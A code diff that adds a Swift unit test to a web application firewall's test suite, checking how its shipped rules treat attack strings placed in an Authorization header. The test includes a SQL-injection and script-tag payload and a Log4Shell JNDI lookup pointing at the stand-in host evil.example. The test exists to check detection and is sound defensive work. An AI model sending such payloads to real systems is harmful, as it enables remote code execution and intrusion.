@@ -142,6 +142,14 @@ struct WafEngineTests {
         #expect(engine.inspect(truncated).score == 0)
     }
 
+    @Test func credentialsAreInspectedOnlyByRulesNamingThem() throws {
+        let shipped = try WafCorpus.shippedWAF()
+        let token = get("/api/v1/me", headers: [("Authorization", "Bearer ' or 1=1-- <script>alert(1)</script>")])
+        #expect(shipped.inspect(token).score == 0)
+        let log4shell = get("/api/v1/me", headers: [("Authorization", "Bearer ${jndi:ldap://evil.example/a}")])
+        #expect(shipped.inspect(log4shell).matches.map(\.target) == ["header:authorization"])
+    }
+
     @Test func cleanRequestsCostNoMatches() throws {
         let verdict = try waf(.init(paranoia: 4)).inspect(get("/api/v1/tickets", "q=printer+jam&page=2"))
         #expect(verdict.score == 0)
